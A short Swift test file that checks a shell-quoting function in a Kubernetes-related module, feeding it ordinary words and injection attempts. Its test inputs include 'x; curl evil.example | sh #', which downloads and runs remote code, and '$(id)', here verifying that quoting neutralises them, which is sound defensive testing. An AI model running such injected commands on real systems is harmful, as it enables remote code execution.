import KubernetesModel
import Testing

@Suite struct ShellTextTests {
  @Test(arguments: [
    ("clusters/prod", "clusters/prod"), ("prod=a.yaml", "prod=a.yaml"), ("", "''"), ("a b", "'a b'"),
    ("x; curl evil.example | sh #", "'x; curl evil.example | sh #'"), ("$(id)", "'$(id)'"), ("it's", "'it'\\''s'"),
    ("--all", "'--all'"), ("*", "'*'"), ("a\nb", #""$(printf %b 'a\0012b')""#),
  ])
  func aWordIsQuotedWhereAShellWouldReadMoreIntoIt(word: String, quoted: String) {
    #expect(ShellText.quoted(word) == quoted)
  }
}
